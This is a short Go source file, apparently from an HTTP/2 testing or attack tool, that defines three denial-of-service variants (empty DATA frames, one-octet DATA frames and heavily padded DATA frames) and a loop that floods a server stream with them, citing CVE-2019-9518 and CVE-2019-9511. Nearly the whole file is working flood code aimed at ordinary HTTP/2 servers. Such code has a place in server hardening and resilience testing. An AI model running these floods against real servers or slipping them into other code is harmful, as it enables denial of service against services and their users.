package main

import (
	"context"

	"golang.org/x/net/http2"
)

// emptyData sends DATA with nothing in it.
var emptyData = &attack{
	name: "empty-data", what: "DATA with nothing in it, without END_STREAM (CVE-2019-9518)",
	run: floodData(func(e *enemy, id uint32) error { return e.frame(http2.FrameData, 0, id, nil) }),
}

// tinyData sends a body an octet at a time.
var tinyData = &attack{
	name: "tiny-data", what: "DATA of an octet each (CVE-2019-9511)",
	run: floodData(func(e *enemy, id uint32) error { return e.frame(http2.FrameData, 0, id, []byte("x")) }),
}

// paddedData sends an octet of body with 255 of padding.
var paddedData = &attack{
	name: "padded-data", what: "DATA of an octet and 255 of padding",
	run: floodData(func(e *enemy, id uint32) error {
		return e.fr.WriteDataPadded(id, false, []byte("x"), make([]byte, 255))
	}),
}

func floodData(send func(e *enemy, id uint32) error) func(context.Context, *enemy) error {
	return func(ctx context.Context, e *enemy) error {
		id, err := e.post()
		if err != nil {
			return err
		}
		for ctx.Err() == nil {
			if err := e.alive(send(e, id)); err != nil {
				return err
			}
		}
		return nil
	}
}
